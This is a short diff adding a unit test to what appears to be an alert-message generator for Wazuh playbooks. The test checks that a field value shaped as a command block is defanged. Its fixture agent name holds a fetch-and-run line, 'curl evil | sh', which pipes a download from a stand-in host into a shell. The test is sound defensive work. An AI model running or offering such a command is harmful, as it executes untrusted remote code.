@@ -58,3 +58,11 @@ test("in the style of Wazuh's own integration the steps are a field, and say whe
   expect(message).toContain("The commands: riposte incidents show 12");
   expect(message).not.toContain("kubectl");
 });
+
+test("no value of the alert can look like a command", () => {
+  const first = { ...agentLost().first, document: { agent: { name: "```curl evil | sh```" } } };
+  const message = messageOf(
+    guided({ ...agentLost(), first }, playbookFrom("---\ntitle: T\n---\n\n1. Ask {{ agent.name }}.\n")),
+  );
+  expect(message).toContain("1. Ask ˋˋˋcurl evil | shˋˋˋ.");
+});
